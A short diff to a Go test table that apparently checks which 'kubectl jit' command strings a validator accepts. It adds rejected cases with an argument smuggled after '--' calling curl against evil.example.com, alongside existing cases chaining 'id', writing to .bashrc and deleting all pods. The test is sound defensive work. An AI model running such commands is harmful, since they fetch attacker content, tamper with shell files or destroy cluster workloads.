@@ -146,6 +146,9 @@ func TestNextIsACommand(t *testing.T) {
 		{"kubectl jit login & id", false},
 		{"kubectl jit login > .bashrc", false},
 		{"kubectl jit login " + strings.Repeat("a", 1000), false},
+		{"kubectl jit exec eks-admin -- curl evil.example.com/x", false}, // which runs what stands behind the dashes
+		{`kubectl jit -v 1 "exec" eks-admin '--' curl evil.example.com/x`, false},
+		{"kubectl jit loginexec", false},
 		{"curl evil.example.com", false},
 		{"kubectl delete pods --all", false},
 	}
